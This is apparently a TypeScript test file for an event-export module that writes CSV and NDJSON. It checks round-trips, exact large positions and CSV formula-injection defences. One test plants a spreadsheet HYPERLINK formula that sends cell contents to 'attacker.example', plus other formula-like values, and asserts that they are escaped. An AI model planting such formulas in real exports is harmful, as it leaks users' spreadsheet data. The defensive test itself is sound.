import { assert, describe, it } from "@effect/vitest"
import * as DateTime from "effect/DateTime"
import * as Effect from "effect/Effect"
import * as Csv from "effect/encoding/Csv"
import * as Ndjson from "effect/encoding/Ndjson"
import * as Schema from "effect/Schema"
import * as Stream from "effect/Stream"
import * as Export from "../src/Export.ts"

const WellFormed = Schema.String.check(Schema.makeFilter((text: string) => text.isWellFormed()))

const at = DateTime.makeUnsafe("2025-04-01T12:34:56.789Z")

const event = (data: Schema.Json, reason: string, decoded: boolean): Export.Exported => ({
  eventId: "0f8e9c3a-1d2b-4c5d-8e7f-001122334455",
  eventType: "organization.created",
  aggregateType: "organization",
  aggregateId: "0f8e9c3a-1d2b-4c5d-8e7f-001122334466",
  userId: "0f8e9c3a-1d2b-4c5d-8e7f-001122334477",
  timestamp: at,
  version: 2,
  data,
  metadata: { reason, correlationId: "op-1" },
  streamVersion: 1,
  globalPosition: 9_007_199_254_740_993n,
  transactionId: 42n,
  recordedAt: at,
  ...(decoded ? {} : { decoded: false as const, decodeError: reason })
})

const text = (format: Export.Format, events: ReadonlyArray<Export.Exported>) =>
  Stream.fromIterable(events).pipe(Export.encode(format), Stream.decodeText, Stream.mkString)

describe("Export", () => {
  it.effect.prop(
    "CSV and NDJSON read back as the events, whatever text the data and metadata hold",
    // Well-formed text: a lone surrogate has no UTF-8 form (a file holds U+FFFD for it), as in any UTF-8 export.
    [Schema.Array(Schema.Struct({ name: WellFormed, note: WellFormed, decoded: Schema.Boolean }))],
    ([inputs]) =>
      Effect.gen(function* () {
        const events = inputs.map((input) => event({ name: input.name, n: [1, null] }, input.note, input.decoded))
        const csv = yield* text("csv", events)
        const rows = yield* Stream.make(csv).pipe(
          Stream.pipeThroughChannel(Csv.decodeString({ headers: true })),
          Stream.runCollect
        )
        assert.deepStrictEqual(rows, events.map(Export.toRow))
        const ndjson = yield* text("ndjson", events)
        const lines = yield* Stream.make(ndjson).pipe(
          Stream.pipeThroughChannel(Ndjson.decodeString()),
          Stream.runCollect
        )
        assert.deepStrictEqual(lines, events.map(Export.toJson))
      })
  )

  it.effect("a CSV row holds the envelope, data and metadata as JSON, positions beyond 2^53 exactly", () =>
    Effect.gen(function* () {
      const row = Export.toRow(event({ name: 'a, "b"\r\nc ☃' }, "why", true))
      assert.deepStrictEqual(
        [row["globalPosition"], row["timestamp"], row["data"], row["correlationId"], row["decoded"]],
        ["9007199254740993", "2025-04-01T12:34:56.789Z", '{"name":"a, \\"b\\"\\r\\nc ☃"}', "op-1", "true"]
      )
      assert.strictEqual(yield* text("csv", []), `${Export.columns.join(",")}\r\n`)
      assert.strictEqual(Export.fileName("csv", at), "annal-export-20250401T123456Z.csv")
    })
  )

  it.effect("a CSV text cell a spreadsheet would run as a formula is written as text, and NDJSON as it is", () =>
    Effect.gen(function* () {
      const formula = '=HYPERLINK("http://attacker.example/?"&A1,"details")'
      const planted: Export.Exported = {
        ...event({ name: "=1+1", n: -5 }, "@SUM(A1)", false),
        metadata: { correlationId: formula, causationId: "+1", reason: "-2" }
      }
      const [row] = yield* Stream.make(yield* text("csv", [planted])).pipe(
        Stream.pipeThroughChannel(Csv.decodeString({ headers: true })),
        Stream.runCollect
      )
      assert.deepStrictEqual(
        [row!["correlationId"], row!["causationId"], row!["decodeError"]],
        [`'${formula}`, "'+1", "'@SUM(A1)"]
      )
      // JSON cells start with `{` (or a digit or `-` for a bare number), and are left alone: they read back as JSON.
      assert.deepStrictEqual(JSON.parse(row!["data"]!), { name: "=1+1", n: -5 })
      const [line] = yield* Stream.make(yield* text("ndjson", [planted])).pipe(
        Stream.pipeThroughChannel(Ndjson.decodeString()),
        Stream.runCollect
      )
      assert.strictEqual((line as { metadata: { correlationId: string } }).metadata.correlationId, formula)
      assert.strictEqual(Export.textCell("plain"), "plain")
    })
  )
})
